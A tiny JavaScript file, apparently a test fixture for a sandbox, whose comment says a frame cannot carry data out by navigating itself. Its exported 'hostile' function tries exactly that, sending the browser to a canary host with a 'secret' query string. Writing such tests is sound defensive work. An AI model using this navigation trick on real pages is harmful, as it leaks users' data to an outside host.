// The frame cannot carry data out by going somewhere itself.
export default function hostile({ canary }) {
  location.href = `http://${canary}/self-navigation?secret`;
}
